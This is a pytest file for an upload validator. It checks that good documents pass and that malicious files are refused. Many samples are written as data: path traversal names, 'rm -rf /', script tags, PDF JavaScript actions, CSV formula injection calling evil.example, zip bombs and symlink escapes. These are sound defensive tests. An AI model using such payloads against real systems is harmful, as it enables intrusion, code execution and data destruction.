"""What may be sent as a file, by its name and its content; what is read of it; what is kept."""

import io
import os
import zipfile
import zlib
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Final

import pytest

from remit.errors import BadInput
from remit.files import checks, reader
from remit.files.kept_files import KeptFiles
from tests.files.documents import PNG, docx, packed, pdf, xlsx
from tests.tables import for_each

GOOD: Final = {
    "report.pdf": pdf("Parks"),
    "Brief an Özge.docx": docx("Parks"),
    "prices.xlsx": xlsx(("Park", 2)),
    "prices.csv": b"park,price\nLumphini,-3\nRama IX,+49 170 1\n",
    "notes.md": b"# Parks\n",
    "map.png": PNG,
    "plan.svg": b'<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0"/></svg>',
    "all.zip": packed({"a/notes.txt": b"x", "prices.csv": b"a,b\n"}),
    "data.json": b'{"a": 1}',
}
_MACROS: Final = {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}
_REMOTE: Final = (
    '<Relationships><Relationship Type="…/attachedTemplate" Target="https://evil.example/t.dotm"'
    ' TargetMode="External"/></Relationships>'
)


def _encrypted() -> bytes:
    raw = bytearray(packed({"a.txt": b"x"}))
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        raw[raw.index(mark) + place] |= 1
    return bytes(raw)


def _twice() -> bytes:
    """An archive whose list counts one content many times, as the densest bombs do."""
    raw = packed({"a.txt": os.urandom(20_000)})
    start = raw.index(b"PK\x01\x02")
    entry, end = raw[start : raw.index(b"PK\x05\x06")], bytearray(raw[raw.index(b"PK\x05\x06") :])
    more = entry[:-5] + b"b.txt"
    end[8:12] = (2).to_bytes(2, "little") * 2
    end[12:16] = (2 * len(entry)).to_bytes(4, "little")
    return raw[:start] + entry + more + bytes(end)


def _link() -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        link = zipfile.ZipInfo("a.txt")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    return made.getvalue()


def _packed_objects(
    objects: bytes, name: bytes = b"/ObjStm", filters: bytes = b"/FlateDecode"
) -> bytes:
    """A PDF that hides objects in a compressed stream."""
    stream = zlib.compress(objects, 9)
    head = b"9 0 obj\n<< /Type %s /Filter %s /Length %d >>" % (name, filters, len(stream))
    whole = pdf("x")
    return whole.replace(b"xref\n0", head + b"\nstream\n" + stream + b"\nendstream\nxref\n0")


# The name, the content, and a word of the sentence.
def _bad() -> tuple[tuple[str, bytes, str], ...]:
    return (
        ("../report.pdf", pdf("x"), "dot or blank"),
        ("/etc/report.pdf", pdf("x"), "sign that no name"),
        ("a\0.pdf", pdf("x"), "hidden or control"),
        ("report\u202efdp.exe.pdf", pdf("x"), "hidden or control"),
        ("re\u200bport.pdf", pdf("x"), "hidden or control"),
        (".hidden.pdf", pdf("x"), "dot or blank"),
        ("a" * 130 + ".pdf", pdf("x"), "longer than"),
        ("x | y].csv", b"a", "sign that no name"),
        ("empty.txt", b"", "is empty"),
        ("large.txt", b"x" * (checks.MAX_BYTES + 1), "at most"),
        ("program.exe", b"MZ\x90", "a kind that is not sent"),
        ("page.html", b"<html></html>", "a kind that is not sent"),
        ("noend", b"x", "a kind that is not sent"),
        ("report.pdf", b"MZ\x90\0", "by its content"),
        ("notes.txt", b"#!/bin/sh\nrm -rf /", "by its content"),
        ("notes.txt", b"<script>alert(1)</script>", "by its content"),
        ("notes.txt", b"caf\xe9", "by its content"),
        ("map.png", b"\xff\xd8\xff\xe0", "by its content"),
        ("polyglot.pdf", pdf("x") + packed({"a.txt": b"x"}), "an archive at the same time"),
        ("polyglot.pdf", b"%PDF-1.4\n<html><script>x</script>\n%%EOF", "holds a script"),
        ("polyglot.png", PNG + b"%PDF-1.4", "a PDF at the same time"),
        ("polyglot.png", PNG + b"<script>alert(1)</script>", "holds a script"),
        ("half.pdf", pdf("x")[:200], "not a whole PDF"),
        ("locked.pdf", pdf("x", "/Encrypt 9 0 R"), "encrypted"),
        ("acts.pdf", pdf("x", "/OpenAction << /S /J#61vaScript >>"), "that acts"),
        ("acts.pdf", pdf("x", "/AA << /S /Launch >>"), "that acts"),
        ("acts.pdf", _packed_objects(b"<< /S /JavaScript /JS (x) >>"), "that acts"),
        ("acts.pdf", _packed_objects(b"/JS", b"/Obj#53tm"), "that acts"),
        ("acts.pdf", _packed_objects(b"/JS", filters=b"/LZWDecode"), "cannot be unpacked"),
        ("bomb.pdf", _packed_objects(b"0" * 120_000_000), "cannot be unpacked"),
        ("script.svg", b"<svg><script>alert(1)</script></svg>", "by its content"),
        ("script.svg", b"<svg onload='x()'></svg>", "script or loads"),
        ("loads.svg", b"<svg><image href='https://evil.example/x'/></svg>", "script or loads"),
        ("acts.csv", b'a,=HYPERLINK("http://evil.example")\n', "formula"),
        ("acts.csv", b"=cmd|'/c calc'!A1\n", "formula"),
        ("macros.docx", docx("x", _MACROS), "macros"),
        ("remote.docx", docx("x", {"word/_rels/settings.xml.rels": _REMOTE}), "from elsewhere"),
        (
            "entity.docx",
            docx("x", {"word/a.xml": "<!DOCTYPE a [<!ENTITY b 'c'>]><a/>"}),
            "definition",
        ),
        ("bomb.docx", docx("x" * 30_000_000), "fill a disk"),
        ("bomb.zip", packed({"a.txt": b"0" * 120_000_000}), "fill a disk"),
        ("twice.zip", _twice(), "fill a disk"),
        ("locked.zip", _encrypted(), "encrypted"),
        ("link.zip", _link(), "leads out"),
        ("away.zip", packed({"../a.txt": b"x"}), "leads out"),
        ("inner.zip", packed({"setup.exe": b"MZ"}), "a program"),
        ("inner.zip", packed({"inner.zip": packed({"a.txt": b"x"})}), "holds an archive itself"),
        ("inner.zip", packed({"a.docx": docx("x", _MACROS)}), "macros"),
        ("inner.zip", packed({"a.txt": b"MZ\0"}), "by its content"),
        ("before.zip", b"PK\x03\x04" + packed({"a.txt": b"x"}), "before it"),
        ("half.zip", packed({"a.txt": b"x"})[:40], "not a whole archive"),
        ("half.docx", docx("x")[:-30], "by its content"),
    )


def test_a_good_file_may_be_sent() -> None:
    for name, content in GOOD.items():
        assert checks.problem(name, content) is None, name


def test_a_bad_file_is_refused_with_a_sentence() -> None:
    said = [(name, word, checks.problem(name, content)) for name, content, word in _bad()]

    assert [each for each in said if each[1] not in (each[2] or "")] == []


@for_each(
    ("name", "content", "words"),
    [
        ("a.pdf", pdf("Parks of Bangkok"), ["Parks of Bangkok"]),
        ("a.docx", docx("Parks"), ["Parks"]),
        ("a.xlsx", xlsx(("Lumphini", 3), ("Rama", 4)), ["Lumphini\t3", "Rama\t4"]),
        ("a.zip", packed({"n.txt": b"one", "d.docx": docx("two")}), ["n.txt", "one", "two"]),
        ("a.csv", b"a,b\n", ["a,b"]),
    ],
)
async def test_the_text_of_a_file_is_read(name: str, content: bytes, words: list[str]) -> None:
    said = await reader.text_of(name, checks.detect(name, content), content)

    assert [word for word in words if word not in said] == []


@for_each(
    ("name", "content", "why"),
    [
        ("a.png", PNG, "no text"),
        ("a.docx", docx("x" * 30_000_000), "fill a disk"),
        ("a.docx", docx("x", {"word/x.xml": "<!DOCTYPE a [<!ENTITY b 'c'>]><a>&b;</a>"}), "XML"),
        ("a.pdf", b"%PDF-1.4\nnothing else", "cannot be read"),
        ("a.zip", _encrypted(), "encrypted"),
    ],
)
async def test_what_cannot_be_read_is_said(name: str, content: bytes, why: str) -> None:
    with pytest.raises(BadInput, match=why):
        await reader.text_of(name, checks.detect(name, content), content)


async def test_a_reader_that_does_not_end_is_ended(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(reader, "SECONDS", 0.2)
    with pytest.raises(BadInput, match="too long"):
        await reader.text_of("a.pdf", checks.PDF, pdf("x"), ("sh", "-c", "sleep 60"))


def test_a_name_from_outside_leads_nowhere() -> None:
    names = {
        "../../etc/passwd": "passwd",
        "C:\\x\\a.pdf": "a.pdf",
        "a\u202ecod.exe": "acod.exe",
        "\0": "file",
        "..": "file",
        "a|b[c].pdf": "a_b_c_.pdf",
        "ü" * 200 + ".pdf": "ü" * 58 + ".pdf",
    }
    for given, wanted in names.items():
        assert checks.safe_name(given) == wanted


def test_a_content_is_kept_once_and_never_believed_unchecked(tmp_path: Path) -> None:
    kept = KeptFiles(tmp_path / "files")
    first, second = kept.keep("a.txt", b"x"), kept.keep("b.txt", b"x", made=True)
    assert first.sha256 == second.sha256
    assert kept.room() == (1, 1)
    assert kept.read(first.sha256) == b"x"
    with pytest.raises(BadInput, match="at most"):
        kept.keep("c.txt", b"x" * (checks.MAX_BYTES + 1))

    (kept.folder / first.sha256).write_bytes(b"y")
    assert kept.read(first.sha256) is None, "changed on the disk"
    assert kept.keep("a.txt", b"x") == first
    assert kept.read(first.sha256) == b"x", "and written anew"
    (kept.folder / first.sha256).unlink()
    (kept.folder / first.sha256).symlink_to(tmp_path / "elsewhere")
    assert kept.read(first.sha256) is None
    assert kept.read("../a") is None


def test_only_what_nothing_refers_to_is_removed(tmp_path: Path) -> None:
    kept, now = KeptFiles(tmp_path / "files"), datetime(2026, 3, 2, 9, 0, tzinfo=UTC)
    assert kept.sweep((), (), now) == 0
    names = [kept.keep(name, name.encode()).sha256 for name in ("a", "b", "c")]
    for each in names:
        os.utime(kept.folder / each, (now.timestamp(), now.timestamp()))

    assert kept.sweep({names[0]}, {names[1]}, now) == 1, "of a deleted task at once"
    assert [kept.read(each) is not None for each in names] == [True, False, True]
    assert kept.sweep({names[0]}, (), now + timedelta(days=2)) == 1, "others after a day"
    assert [kept.read(each) is not None for each in names] == [True, False, False]
